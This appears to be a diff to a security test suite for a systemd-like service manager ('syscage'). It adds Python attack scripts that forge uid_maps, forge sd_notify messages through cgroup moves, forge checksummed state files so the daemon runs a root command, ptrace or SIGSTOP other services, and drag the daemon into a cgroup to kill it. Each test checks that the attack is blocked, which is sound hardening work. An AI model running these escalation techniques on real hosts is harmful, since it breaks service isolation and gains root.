@@ -517,7 +517,597 @@ def euid_checks(ctx):
     d.stop()
 
 
-ATTACKS = [userns_guard_uid, userns_guard_uid_nobody, userns_guard_uid_dynamic, userns_no_setuid, notify_pid_reuse, mainpid_outside, mainpid_outside_crash, holder_fd_table, state_file_status, compat_setresuid, euid_checks]
+# ---------------------------------------------------------------------------------------
+FOREIGN_BENEFICIARY_PY = r"""
+# A second gated root service WITHOUT capabilities (so no guard line is added to it) makes a
+# user namespace of its own, leaves its pid for the first, waits for a uid_map and becomes
+# uid 0 in there: its filter sees setresuid(0, 0, 0).
+import ctypes, os, signal, sys, time
+libc = ctypes.CDLL(None, use_errno=True)
+d = sys.argv[1]
+daemon = os.getppid()
+with open('/proc/%d/stat' % daemon) as f:
+    holder = int(f.read().rsplit(')', 1)[1].split()[1])
+with open(os.path.join(d, 'pid.tmp'), 'w') as f:
+    f.write(str(os.getpid()))
+os.rename(os.path.join(d, 'pid.tmp'), os.path.join(d, 'pid'))
+if libc.unshare(0x10000000) != 0:
+    print('unshare(CLONE_NEWUSER) failed', ctypes.get_errno(), flush=True)
+    sys.exit(1)
+print('beneficiary: in a user namespace, daemon', daemon, 'holder', holder, flush=True)
+end = time.monotonic() + 10
+while time.monotonic() < end:
+    with open('/proc/self/uid_map') as f:
+        if f.read().strip():
+            break
+    time.sleep(0.05)
+with open('/proc/self/uid_map') as f:
+    print('uid_map:', f.read().strip(), flush=True)
+if libc.setresuid(0, 0, 0) != 0:
+    print('setresuid(0,0,0) failed', ctypes.get_errno(), flush=True)
+    sys.exit(1)
+with open('/proc/self/status') as f:
+    print('beneficiary:', [l.strip() for l in f if l.startswith('Uid')][0], flush=True)
+for t in (daemon, holder):
+    try:
+        os.kill(t, signal.SIGSTOP)
+        print('SIGSTOP sent to %d' % t, flush=True)
+    except OSError as e:
+        print('kill(%d, SIGSTOP): %s' % (t, e), flush=True)
+print('done', flush=True)
+time.sleep(1000)
+"""
+
+FOREIGN_WRITER_PY = r"""
+# The gated root service keeping CAP_SETUID (its filter refuses set*uid(guard) and, since the
+# fix, every user namespace of its own) writes the uid_map of ANOTHER process's namespace:
+# the kernel asks for CAP_SETUID in the parent namespace (it has it) and CAP_SYS_ADMIN in the
+# target one (it has it as that namespace's owner, uid 0).
+import ctypes, os, sys, time
+libc = ctypes.CDLL(None, use_errno=True)
+d = sys.argv[1]
+# The guard is in place: a namespace of its own is refused.
+print('writer: own unshare(CLONE_NEWUSER):', libc.unshare(0x10000000), os.strerror(ctypes.get_errno()), flush=True)
+end = time.monotonic() + 10
+while time.monotonic() < end and not os.path.exists(os.path.join(d, 'pid')):
+    time.sleep(0.05)
+pid = int(open(os.path.join(d, 'pid')).read())
+end = time.monotonic() + 10
+while time.monotonic() < end and os.readlink('/proc/%d/ns/user' % pid) == os.readlink('/proc/self/ns/user'):
+    time.sleep(0.05)
+try:
+    with open('/proc/%d/uid_map' % pid, 'w') as f:
+        f.write('0 4294967293 1\n')
+    print('writer: uid_map of %d written: 0 -> 4294967293' % pid, flush=True)
+except OSError as e:
+    print('writer: uid_map write failed', e, flush=True)
+"""
+
+
+def userns_foreign_map(ctx, writer_identity='CapabilityBoundingSet=CAP_SETUID\n',
+                       beneficiary_identity='CapabilityBoundingSet=\n', label='root'):
+    """The guard (RestrictNamespaces=~user for a gated service keeping CAP_SETUID) only stops
+    the service's OWN namespaces. Its CAP_SETUID still lets it write the uid_map of another
+    process's fresh namespace: here a second gated root service with no capabilities at all
+    (which gets no guard line, and whose filter sees setresuid(0, 0, 0)). The second service
+    then is uid 4294967293 and stops the holder and the daemon."""
+    path_b = script(ctx, 'beneficiary.py', FOREIGN_BENEFICIARY_PY)
+    shared = os.path.dirname(path_b)
+    os.chmod(shared, 0o777)
+    path_w = script(ctx, 'writer.py', FOREIGN_WRITER_PY)
+    units = {'beneficiary.service': unit(GATED + beneficiary_identity +
+                                         'ExecStart=/usr/bin/python3 %s %s' % (path_b, shared)),
+             'setuid.service': unit(GATED + writer_identity +
+                                    'ExecStart=/usr/bin/python3 %s %s' % (path_w, shared)),
+             'other.service': unit('ExecStart=/bin/sleep 1000')}
+    d = ctx.daemon(units, ['other.service'])
+    d.wait_state('other.service', 'active', 'running')
+    daemon = d.daemon_pid()
+    holder = d.proc.pid
+    st.ctl(ctx, d, 'start', 'beneficiary.service')
+    st.ctl(ctx, d, 'start', 'setuid.service')
+    end = time.monotonic() + 10
+    while time.monotonic() < end and not (proc_state(daemon) == 'T' and proc_state(holder) == 'T'):
+        if 'done' in d.unit_log('beneficiary.service') or 'failed' in d.unit_log('beneficiary.service'):
+            break
+        time.sleep(0.05)
+    sd, sh = proc_state(daemon), proc_state(holder)
+    for pid in (daemon, holder):
+        try:
+            os.kill(pid, signal.SIGCONT)
+        except OSError:
+            pass
+    verbose(d, 'beneficiary.service')
+    verbose(d, 'setuid.service')
+    log = d.unit_log('beneficiary.service') + d.unit_log('setuid.service')
+    if 'beneficiary:' not in log:
+        raise st.Failure('the service did not run')
+    verdict('guard: %s: a gated CAP_SETUID service maps the guard uid into another service\'s namespace: SIGSTOP' % label,
+            sd != 'T' and sh != 'T',
+            'daemon state %s, holder state %s; logs: %s' % (
+                sd, sh, ' | '.join(l.split(': ', 1)[-1] for l in log.split('\n') if l.strip())))
+    d.stop()
+
+
+# ---------------------------------------------------------------------------------------
+CGROUP_MOVE_PY = r"""
+# A capless root service forks a child that writes its own pid into the victim unit's
+# cgroup.procs (root owns the files; cgroup v2 asks for write access to the destination and
+# to the common ancestor's cgroup.procs, no capability), then speaks for the victim.
+import os, socket, sys, time
+with open('/proc/self/cgroup') as f:
+    own = [l for l in f.read().split('\n') if l.startswith('0::')][0][3:]
+root = None
+for l in open('/proc/self/mountinfo'):
+    p = l.split()
+    if p[p.index('-') + 1] == 'cgroup2':
+        root = p[4]
+parent = os.path.dirname(own)
+cg = parent + '/' + [n for n in os.listdir(root + parent) if sys.argv[1] in n][0]
+print('attacker: victim cgroup', cg, 'cgroup2 at', root, flush=True)
+pid = os.fork()
+if pid == 0:
+    try:
+        with open(root + cg + '/cgroup.procs', 'w') as f:
+            f.write('%d\n' % os.getpid())
+        print('attacker child: moved into', open('/proc/self/cgroup').read().strip(), flush=True)
+    except OSError as e:
+        print('attacker child: move failed', e, flush=True)
+        os._exit(1)
+    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
+    s.sendto(('STATUS=forged by the attacker\nMAINPID=%d\n' % os.getpid()).encode(), os.environ['NOTIFY_SOCKET'])
+    print('attacker child: sent', flush=True)
+    time.sleep(1000)
+os.waitpid(pid, 0)
+"""
+
+
+def userns_foreign_map_nobody(ctx):
+    """The same between two User=nobody services: the writer with AmbientCapabilities=CAP_SETUID
+    (the README's userns_guard_uid_nobody, now guarded), the other gated with no capability.
+    The namespace's owner is nobody, as is the writer, so the kernel's CAP_SYS_ADMIN check in
+    the target namespace passes as well."""
+    userns_foreign_map(ctx, 'User=nobody\nAmbientCapabilities=CAP_SETUID\nCapabilityBoundingSet=CAP_SETUID\n',
+                       'User=nobody\nCapabilityBoundingSet=\n', 'User=nobody')
+
+
+def cgroup_move_notify(ctx, protect=False, gated=False):
+    """A capless root service (no gate needed) moves a child of its own into another unit's
+    cgroup by writing cgroup.procs, then sends STATUS= and MAINPID= for that unit (victim
+    NotifyAccess=all): notifications now go by the sender's cgroup. With
+    ProtectControlGroups=yes the cgroup tree is read-only for it."""
+    path = script(ctx, 'cgmove.py', CGROUP_MOVE_PY)
+    units = {'victim.service': unit('NotifyAccess=all\nExecStart=/bin/sleep 1000'),
+             'attacker.service': unit('CapabilityBoundingSet=\nNotifyAccess=all\n' +
+                                      ('ProtectControlGroups=yes\n' if protect else '') +
+                                      (GATED if gated else '') +
+                                      'ExecStart=/usr/bin/python3 %s victim.service' % path)}
+    d = ctx.daemon(units, ['victim.service'])
+    d.wait_state('victim.service', 'active', 'running')
+    st.ctl(ctx, d, 'start', 'attacker.service')
+    end = time.monotonic() + 10
+    status = ''
+    while time.monotonic() < end:
+        status = st.ctl(ctx, d, 'status', 'victim.service').stdout
+        log = d.unit_log('attacker.service')
+        if 'forged' in status or 'move failed' in log:
+            break
+        time.sleep(0.1)
+    verbose(d, 'attacker.service')
+    if os.environ.get('ATTACK_VERBOSE'):
+        print(status)
+    label = 'ProtectControlGroups=yes' if protect else 'gated, no other sandbox' if gated else 'no sandbox'
+    verdict('notify: %s: a root service moves a process into another unit\'s cgroup and speaks for it' % label,
+            'forged' not in status,
+            'victim status: %s; attacker log: %s' % (' | '.join(status.strip().split('\n')),
+                                                    ' | '.join(l.split(': ', 1)[-1] for l in d.unit_log('attacker.service').split('\n') if l.strip())))
+    d.stop()
+
+
+def cgroup_move_notify_protected(ctx):
+    cgroup_move_notify(ctx, True)
+
+
+def cgroup_move_notify_gated(ctx):
+    """The same attacker gated (ProtectSupervisor= is on by default with the gate)."""
+    cgroup_move_notify(ctx, False, True)
+
+
+# ---------------------------------------------------------------------------------------
+GUARD_PROBE_PY = r"""
+# Every way this process knows to enter or make a user namespace: unshare, clone, clone3,
+# setns (type 0 and CLONE_NEWUSER) into a namespace the test made outside (pid in argv[1]).
+import ctypes, os, sys
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+NEWUSER = 0x10000000
+res = {}
+pid = os.fork()
+if pid == 0:
+    os._exit(0 if libc.unshare(NEWUSER) == 0 else 1)
+res['unshare'] = os.waitpid(pid, 0)[1] == 0
+r = libc.syscall(56, NEWUSER | 17, 0, 0, 0, 0)          # clone(CLONE_NEWUSER | SIGCHLD)
+if r == 0:
+    os._exit(0)
+res['clone'] = r > 0
+if r > 0:
+    os.waitpid(r, 0)
+args = (ctypes.c_uint64 * 11)()
+args[0] = NEWUSER
+args[4] = 17
+r = libc.syscall(435, ctypes.byref(args), 88)          # clone3
+if r == 0:
+    os._exit(0)
+res['clone3'] = r > 0
+res['clone3_errno'] = ctypes.get_errno()
+if r > 0:
+    os.waitpid(r, 0)
+for t in (0, NEWUSER):
+    fd = os.open('/proc/%s/ns/user' % sys.argv[1], os.O_RDONLY)
+    pid = os.fork()
+    if pid == 0:
+        os._exit(0 if libc.setns(fd, t) == 0 else 1)
+    res['setns_%x' % t] = os.waitpid(pid, 0)[1] == 0
+    os.close(fd)
+print('probe:', ' '.join('%s=%s' % kv for kv in sorted(res.items())), flush=True)
+"""
+
+
+def guard_forms(ctx):
+    """unit_guard_user_namespaces(): the added RestrictNamespaces=~user against the unit's own
+    forms of the directive (an allow-list naming user, "no", an empty reset, "~"), through
+    unshare, clone, clone3 and setns (into a user namespace an outside process made, with
+    CAP_SYS_ADMIN kept so that setns could succeed); again after daemon-reload twice, after
+    daemon-reexec, and after a restart of the unit under the new daemon."""
+    path = script(ctx, 'probe.py', GUARD_PROBE_PY)
+    outside = st.subprocess.Popen(['unshare', '-U', 'sleep', '1000'])
+    time.sleep(0)
+    end = time.monotonic() + 5
+    while time.monotonic() < end and os.readlink('/proc/%d/ns/user' % outside.pid) == os.readlink('/proc/self/ns/user'):
+        time.sleep(0.02)
+    forms = {'plain': '', 'allowuser': 'RestrictNamespaces=user\n', 'no': 'RestrictNamespaces=no\n',
+             'empty': 'RestrictNamespaces=\n', 'tilde': 'RestrictNamespaces=~\n'}
+    units = {}
+    for k, v in forms.items():
+        units['g-%s.service' % k] = unit(GATED + 'CapabilityBoundingSet=CAP_SETUID CAP_SYS_ADMIN\n' + v +
+                                         'ExecStart=/usr/bin/python3 %s %d' % (path, outside.pid))
+    units['ctl.service'] = unit('CapabilityBoundingSet=CAP_SETUID CAP_SYS_ADMIN\n'
+                                'ExecStart=/usr/bin/python3 %s %d' % (path, outside.pid))
+    d = ctx.daemon(units, [])
+    d.wait('ctl.service', lambda s: True, 'the daemon', timeout=15)
+    bad = []
+
+    def round_(label):
+        for name in units:
+            n0 = d.unit_log(name).count('probe:')
+            st.ctl(ctx, d, 'restart', name)
+            end = time.monotonic() + 10
+            while time.monotonic() < end and d.unit_log(name).count('probe:') == n0:
+                time.sleep(0.05)
+            line = [l for l in d.unit_log(name).split('\n') if 'probe:' in l]
+            line = line[-1].split('probe: ')[1] if line else 'no output'
+            if os.environ.get('ATTACK_VERBOSE'):
+                print(label, name, line)
+            if name == 'ctl.service':
+                if 'unshare=True' not in line:
+                    bad.append('%s: control unit could not unshare (%s)' % (label, line))
+            elif 'True' in line:
+                bad.append('%s %s: %s' % (label, name, line))
+    round_('load')
+    # A drop-in resetting the directive, picked up by the reloads.
+    dd = os.path.join(d.units_dir, d.prefix + 'g-plain.service.d')
+    os.makedirs(dd)
+    with open(os.path.join(dd, 'zz-reset.conf'), 'w') as f:
+        f.write('[Service]\nRestrictNamespaces=\nRestrictNamespaces=no\n')
+    st.ctl(ctx, d, 'daemon-reload')
+    st.ctl(ctx, d, 'daemon-reload')
+    round_('reload')
+    cat = st.ctl(ctx, d, 'cat', 'g-plain.service').stdout
+    if cat.count('guard uid') > 1 or cat.count('~user') > 1:
+        bad.append('guard line shown %d times after two reloads' % cat.count('~user'))
+    st.ctl(ctx, d, 'daemon-reexec')
+    d.daemon_pid()
+    time.sleep(0)
+    end = time.monotonic() + 10
+    while time.monotonic() < end and st.ctl(ctx, d, 'status', 'ctl.service').returncode not in (0, 3):
+        time.sleep(0.1)
+    round_('reexec')
+    cat2 = st.ctl(ctx, d, 'cat', 'g-plain.service').stdout
+    if os.environ.get('ATTACK_VERBOSE'):
+        print(cat2)
+    outside.kill()
+    outside.wait()
+    verdict('guard: RestrictNamespaces=~user against the unit\'s own forms, clone/clone3/setns, reload, reexec',
+            not bad, '; '.join(bad))
+    d.stop()
+
+
+# ---------------------------------------------------------------------------------------
+IDENTITY_PROBE_PY = r"""
+import os, signal
+daemon = os.getppid()
+with open('/proc/%d/stat' % daemon) as f:
+    holder = int(f.read().rsplit(')', 1)[1].split()[1])
+res = []
+for t in (daemon, holder):
+    try:
+        os.kill(t, 0)
+        res.append('kill(%d,0)=ok' % t)
+    except OSError as e:
+        res.append('kill(%d,0)=%s' % (t, e.strerror))
+print('identity:', os.getresuid(), ' '.join(res), flush=True)
+import time
+time.sleep(1000)
+"""
+
+
+def identity_forms(ctx):
+    """The launch child starts with the daemon's credentials (real and saved uid 4294967293):
+    every service must leave them. Root services with and without PrivateUsers=, gated or not,
+    with User=root spelled out, with DynamicUser=: the host's view of the main process's uids
+    (/proc/PID/status) must not contain the guard uid, and kill(daemon, 0) must fail."""
+    path = script(ctx, 'ident.py', IDENTITY_PROBE_PY)
+    forms = {'root': 'CapabilityBoundingSet=\n', 'root-pu': 'CapabilityBoundingSet=\nPrivateUsers=yes\n',
+             'root-pu-gated': GATED + 'CapabilityBoundingSet=\nPrivateUsers=yes\n',
+             'root-pu-full': 'PrivateUsers=yes\n', 'user-root': 'User=root\nCapabilityBoundingSet=\n',
+             'nobody-pu': 'User=nobody\nPrivateUsers=yes\n', 'dyn': 'DynamicUser=yes\n'}
+    units = {'i-%s.service' % k: unit(v + 'ExecStart=/usr/bin/python3 %s' % path) for k, v in forms.items()}
+    d = ctx.daemon(units, list(units))
+    bad = []
+    import re
+    for name in units:
+        end = time.monotonic() + 10
+        while time.monotonic() < end and 'identity:' not in d.unit_log(name):
+            time.sleep(0.05)
+        log = d.unit_log(name)
+        pids = re.findall(re.escape(name) + r': Spawned /usr/bin/python3 as pid (\d+)', d.daemon_log())
+        host = 'unknown'
+        if pids:
+            with open('/proc/%s/status' % pids[-1]) as f:
+                host = [l.split(':', 1)[1].split() for l in f if l.startswith('Uid')][0]
+        line = [l.split('identity: ')[1] for l in log.split('\n') if 'identity:' in l]
+        if os.environ.get('ATTACK_VERBOSE'):
+            print(name, host, line)
+        if '4294967293' in host or not line or '=ok' in line[0]:
+            bad.append('%s: host uids %s, %s' % (name, host, line[0] if line else log[-300:]))
+    verdict('identity: no service keeps the guard uid (root, PrivateUsers=, User=root, DynamicUser=)',
+            not bad, '; '.join(bad))
+    d.stop()
+
+
+
+def guard_transient(ctx):
+    """`syscagectl run` (unit_load_transient): a gated transient unit with CAP_SETUID and
+    -p RestrictNamespaces= (empty) still gets the guard; the same without the gate may unshare
+    (control). Observed: held."""
+    path = script(ctx, 'unshare.py', 'import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n'
+                  'print("unshare", libc.unshare(0x10000000), ctypes.get_errno(), flush=True)\n')
+    d = ctx.daemon({'other.service': unit('ExecStart=/bin/sleep 1000')}, [])
+    d.wait('other.service', lambda s: True, 'the daemon', timeout=15)
+    gated = st.ctl(ctx, d, 'run', '--wait', '--pipe', '-p', 'NoNewPrivileges=yes', '-p', 'SystemCallFilter=~execve execveat',
+                   '-p', 'SystemCallErrorNumber=EPERM', '-p', 'CapabilityBoundingSet=CAP_SETUID',
+                   '-p', 'RestrictNamespaces=', '/usr/bin/python3', path).stdout
+    plain = st.ctl(ctx, d, 'run', '--wait', '--pipe', '-p', 'CapabilityBoundingSet=CAP_SETUID',
+                   '/usr/bin/python3', path).stdout
+    # Gated through execveat alone, and through an allow-list that leaves execve out.
+    only_at = st.ctl(ctx, d, 'run', '--wait', '--pipe', '-p', 'SystemCallFilter=~execveat',
+                     '-p', 'CapabilityBoundingSet=CAP_SETUID', '/usr/bin/python3', path).stdout
+    allow = st.ctl(ctx, d, 'run', '--wait', '--pipe', '-p', 'SystemCallFilter=@system-service',
+                   '-p', 'SystemCallFilter=~execve', '-p', 'CapabilityBoundingSet=CAP_SETUID',
+                   '/usr/bin/python3', path).stdout
+    verdict('guard: transient gated unit with CAP_SETUID (~execve execveat with RestrictNamespaces=, ~execveat only, '
+            '@system-service minus execve) cannot unshare a user namespace',
+            'unshare -1 1' in gated and 'unshare 0 0' in plain and 'unshare -1 1' in only_at and 'unshare -1 1' in allow,
+            'gated: %r, ~execveat: %r, allow-list: %r, ungated: %r' % (gated, only_at, allow, plain))
+    d.stop()
+
+
+# ---------------------------------------------------------------------------------------
+NS_OWNER_PY = r"""
+# A capless root service against the main processes of other units (pids in argv): kill(0),
+# SIGSTOP, prlimit(RLIMIT_NOFILE lowered), PTRACE_SEIZE.
+import ctypes, os, signal, sys
+libc = ctypes.CDLL(None, use_errno=True)
+class rlimit(ctypes.Structure):
+    _fields_ = [('cur', ctypes.c_ulong), ('max', ctypes.c_ulong)]
+for arg in sys.argv[1:]:
+    name, pid = arg.split('=')
+    pid = int(pid)
+    out = []
+    try:
+        os.kill(pid, signal.SIGSTOP)
+        out.append('SIGSTOP=ok')
+        os.kill(pid, signal.SIGCONT)
+    except OSError as e:
+        out.append('SIGSTOP=' + e.strerror)
+    new = rlimit(16, 16)
+    r = libc.prlimit(pid, 7, ctypes.byref(new), None)
+    out.append('prlimit=' + ('ok' if r == 0 else os.strerror(ctypes.get_errno())))
+    r = libc.ptrace(0x4206, pid, None, None)   # PTRACE_SEIZE
+    out.append('ptrace=' + ('ok' if r == 0 else os.strerror(ctypes.get_errno())))
+    print('owner: %s %s' % (name, ' '.join(out)), flush=True)
+"""
+
+
+def userns_owner(ctx):
+    """PrivateUsers=: the launch child unshares the user namespace as euid 0, so root owns
+    every service's private namespace, and the owner has every capability in it. A capless
+    root service (CapabilityBoundingSet= empty, gated) against a User=nobody service: without
+    PrivateUsers= it may do nothing (control); with it, kill, prlimit, ptrace?"""
+    path = script(ctx, 'owner.py', NS_OWNER_PY)
+    units = {'v-plain.service': unit('User=nobody\nExecStart=/bin/sleep 1000'),
+             'v-pu.service': unit('User=nobody\nPrivateUsers=yes\nExecStart=/bin/sleep 1000')}
+    d = ctx.daemon(units, list(units))
+    import re
+    pids = {}
+    for name in units:
+        d.wait_state(name, 'active', 'running')
+        pids[name] = int(re.findall(re.escape(d._n(name)) + r': Spawned /bin/sleep as pid (\d+)', d.daemon_log())[-1])
+    d.stop()
+    units['attacker.service'] = unit(GATED + 'CapabilityBoundingSet=\nExecStart=/usr/bin/python3 %s @ARGS@' % path)
+    d = ctx.daemon(units, list(units)[:2])
+    for name in list(units)[:2]:
+        d.wait_state(name, 'active', 'running')
+    args = ' '.join('%s=%s' % (n, re.findall(re.escape(d._n(n)) + r': Spawned /bin/sleep as pid (\d+)', d.daemon_log())[-1])
+                    for n in list(units)[:2])
+    f = os.path.join(d.units_dir, d._n('attacker.service'))
+    text = open(f).read().replace('@ARGS@', args)
+    open(f, 'w').write(text)
+    st.ctl(ctx, d, 'daemon-reload')
+    st.ctl(ctx, d, 'start', 'attacker.service')
+    end = time.monotonic() + 10
+    while time.monotonic() < end and d.unit_log('attacker.service').count('owner:') < 2:
+        time.sleep(0.05)
+    lines = [l.split('owner: ')[1] for l in d.unit_log('attacker.service').split('\n') if 'owner:' in l]
+    if os.environ.get('ATTACK_VERBOSE'):
+        print(lines)
+    pu = [l for l in lines if l.startswith('v-pu')]
+    plain = [l for l in lines if l.startswith('v-plain')]
+    verdict('PrivateUsers=: a capless root service signals, prlimits or ptraces a User=nobody service in its private namespace',
+            pu and '=ok' not in pu[0], 'with PrivateUsers=: %s; without (control): %s' % (pu, plain))
+    d.stop()
+
+
+# ---------------------------------------------------------------------------------------
+STATE_FORGE_PY = r"""
+# An ungated root service without capabilities (ProtectSupervisor= is on by default only with
+# the gate) writes a state file for a transient unit that never existed: its assignments come
+# from the state file, and "auto-restart" with a past timer makes the next daemon start it.
+# The checksum is FNV-1a over the text before "end ", no key; nothing checks the owner.
+import os, sys
+runtime, proof = sys.argv[1], sys.argv[2]
+def esc(v):
+    return ''.join('\\x%02x' % ord(c) if ord(c) < 0x20 or ord(c) == 0x7f else c for c in v)
+cmd = '/bin/sh -c "grep -E CapEff /proc/self/status > %s/pwned; grep -E ^Uid /proc/self/status >> %s/pwned"' % (proof, proof)
+entries = [('unit', 'pwned.service'), ('state', 'auto-restart'), ('result', 'exit-code'),
+           ('reload_result', 'success'), ('invocation', '0123456789abcdef0123456789abcdef'),
+           ('n_restarts', '0'), ('start_limit_begin', '0'), ('start_limit_count', '0'), ('last_start', '0'),
+           ('start_seq', '1'), ('forbid_restart', 'no'), ('restart_requested', 'no'), ('notify_ready', 'no'),
+           ('notify_stopping', 'no'), ('reload_pending_ready', 'no'), ('main_execed', 'no'),
+           ('ts_state_change', '0'), ('ts_active_enter', '0'), ('ts_active_exit', '0'), ('ts_inactive_enter', '0'),
+           ('ts_main_start', '0'), ('ts_main_exit', '0'), ('main_pid', '0'), ('main_pid_known', 'no'),
+           ('main_code', '1'), ('main_status', '1'), ('control_command', '0'), ('command_index', '0'),
+           ('timer', '1'), ('watchdog', 'no'),
+           ('transient', esc('Service\tRestart\t1\t-p\tno')),
+           ('transient', esc('Service\tExecStart\t1\t(command line)\t' + cmd))]
+text = 'syscage-state 1\n' + ''.join('%s=%s\n' % kv for kv in entries)
+h = 0xcbf29ce484222325
+for b in text.encode():
+    h = ((h ^ b) * 0x100000001b3) & 0xffffffffffffffff
+text += 'end %016x\n' % h
+try:
+    with open(os.path.join(runtime, 'state', '.pwned.tmp'), 'w') as f:
+        f.write(text)
+    os.rename(os.path.join(runtime, 'state', '.pwned.tmp'), os.path.join(runtime, 'state', 'pwned.service.state'))
+    print('forger: state file written', flush=True)
+except OSError as e:
+    print('forger: failed', e, flush=True)
+with open('/proc/self/status') as f:
+    print('forger:', ' '.join(l.strip() for l in f if l.startswith('CapEff')), flush=True)
+"""
+
+
+def state_forge(ctx):
+    """A capless, ungated root service forges RUNTIME_DIR/state/pwned.service.state: a transient
+    unit with its own ExecStart= in "auto-restart". At the next daemon-reexec (an operator's,
+    after an upgrade) or crash, the daemon takes the transient unit "over" and starts it: a
+    root process with every capability, from a service that had none."""
+    path = script(ctx, 'forge.py', STATE_FORGE_PY)
+    proof = os.path.dirname(path)
+    units = {'forger.service': unit('CapabilityBoundingSet=\nType=oneshot\nExecStart=/usr/bin/python3 %s @RUNTIME@ %s' % (path, proof))}
+    d = ctx.daemon(units, [])
+    d.wait('forger.service', lambda s: True, 'the daemon', timeout=15)
+    f = os.path.join(d.units_dir, d._n('forger.service'))
+    text = open(f).read().replace('@RUNTIME@', d.runtime_dir)
+    open(f, 'w').write(text)
+    st.ctl(ctx, d, 'daemon-reload')
+    st.ctl(ctx, d, 'start', 'forger.service')
+    end = time.monotonic() + 10
+    while time.monotonic() < end and 'forger: CapEff' not in d.unit_log('forger.service'):
+        time.sleep(0.05)
+    verbose(d, 'forger.service')
+    st.ctl(ctx, d, 'daemon-reexec')
+    end = time.monotonic() + 10
+    pwned = os.path.join(proof, 'pwned')
+    while time.monotonic() < end and not (os.path.exists(pwned) and 'Uid' in open(pwned).read()):
+        time.sleep(0.1)
+    got = open(pwned).read().split('\n') if os.path.exists(pwned) else []
+    verbose(d, 'pwned.service')
+    verdict('state files: a capless ungated root service forges a transient unit that the next daemon starts',
+            not got, 'the forged unit ran after daemon-reexec: %s; forger: %s' % (
+                ' | '.join(l.strip() for l in got if l.strip()),
+                ' | '.join(l.split(': ', 1)[-1] for l in d.unit_log('forger.service').split('\n') if 'forger:' in l)))
+    d.stop()
+
+
+# ---------------------------------------------------------------------------------------
+CGROUP_PULL_PY = r"""
+# Pulls the daemon, the holder and an outside process (argv[1]) into this unit's own cgroup
+# (cgroup v2 asks for write access to the destination's and the common ancestor's
+# cgroup.procs, root-owned files; it does not compare the mover's and the target's
+# credentials), then exits: the unit's stop kills its cgroup.
+import os, sys
+daemon = os.getppid()
+with open('/proc/%d/stat' % daemon) as f:
+    holder = int(f.read().rsplit(')', 1)[1].split()[1])
+with open('/proc/self/cgroup') as f:
+    own = [l for l in f.read().split('\n') if l.startswith('0::')][0][3:]
+root = None
+for l in open('/proc/self/mountinfo'):
+    p = l.split()
+    if p[p.index('-') + 1] == 'cgroup2':
+        root = p[4]
+for t in (int(sys.argv[1]), holder, daemon):
+    try:
+        with open(root + own + '/cgroup.procs', 'w') as f:
+            f.write('%d\n' % t)
+        print('puller: moved %d' % t, flush=True)
+    except OSError as e:
+        print('puller: move of %d failed: %s' % (t, e), flush=True)
+"""
+
+
+def cgroup_pull(ctx, gated=False):
+    """A root service without capabilities writes other processes' pids into its own cgroup's
+    cgroup.procs: the holder, the daemon, and a process outside any unit; then its main
+    process exits, and the unit's stop kills what is in the cgroup."""
+    path = script(ctx, 'pull.py', CGROUP_PULL_PY)
+    outside = st.subprocess.Popen(['sleep', '1000'])
+    units = {'puller.service': unit('CapabilityBoundingSet=\nTimeoutStopSec=1\n' + (GATED if gated else '') +
+                                    'ExecStart=/usr/bin/python3 %s %d' % (path, outside.pid)),
+             'other.service': unit('ExecStart=/bin/sleep 1000')}
+    d = ctx.daemon(units, ['other.service'])
+    d.wait_state('other.service', 'active', 'running')
+    daemon = d.daemon_pid()
+    holder = d.proc.pid
+    st.ctl(ctx, d, 'start', 'puller.service')
+    end = time.monotonic() + 6
+    while time.monotonic() < end and proc_state(holder) not in ('gone', 'Z'):
+        time.sleep(0.05)
+    res = 'outside %s, daemon %s, holder %s' % ('killed' if outside.poll() is not None else 'alive',
+                                                proc_state(daemon), proc_state(holder))
+    log = d.unit_log('puller.service')
+    try:
+        outside.kill()
+    except OSError:
+        pass
+    outside.wait()
+    if os.environ.get('ATTACK_VERBOSE'):
+        print(res, log, d.daemon_log()[-2000:])
+    verdict('cgroups: a capless root service%s pulls the holder, the daemon and an outside process into its cgroup' %
+            (' (gated)' if gated else ''), 'puller: moved' not in log,
+            '%s; %s' % (res, ' | '.join(l.split(': ', 1)[-1] for l in log.split('\n') if 'puller' in l)))
+    try:
+        d.stop()
+    except Exception:
+        pass
+
+
+def cgroup_pull_gated(ctx):
+    cgroup_pull(ctx, True)
+
+
+ATTACKS = [cgroup_pull, cgroup_pull_gated, state_forge, userns_owner, guard_transient, identity_forms, guard_forms, userns_foreign_map_nobody, cgroup_move_notify, cgroup_move_notify_protected, cgroup_move_notify_gated, userns_foreign_map, userns_guard_uid, userns_guard_uid_nobody, userns_guard_uid_dynamic, userns_no_setuid, notify_pid_reuse, mainpid_outside, mainpid_outside_crash, holder_fd_table, state_file_status, compat_setresuid, euid_checks]
 
 
 def main():
